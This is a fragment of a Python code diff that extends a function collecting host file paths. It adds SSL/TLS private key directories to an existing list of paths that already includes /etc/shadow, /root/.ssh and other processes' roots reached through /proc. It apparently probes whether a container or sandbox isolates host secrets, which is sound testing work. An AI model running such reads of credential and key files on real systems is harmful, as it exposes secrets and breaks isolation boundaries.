@@ -124,6 +124,7 @@ def files_of_the_host() -> Any:
     secret = KNOWN["secret"]
     roots = ["", "/proc/1/root", *(f"/proc/{pid}/{way}" for pid in others() for way in ("root", "cwd"))]
     paths = [root + secret for root in roots]
+    paths += [KNOWN["beside"], *glob.glob("/etc/ssl/private/*"), *glob.glob("/etc/pki/tls/private/*")]
     paths += ["/etc/shadow", "/root/.bashrc", "/root/.ssh", "/var/lib/docker", "/var/log/syslog", "/boot", "/host"]
     return each(read, paths) + each(os.listdir, [KNOWN["runtime_dir"]])
 
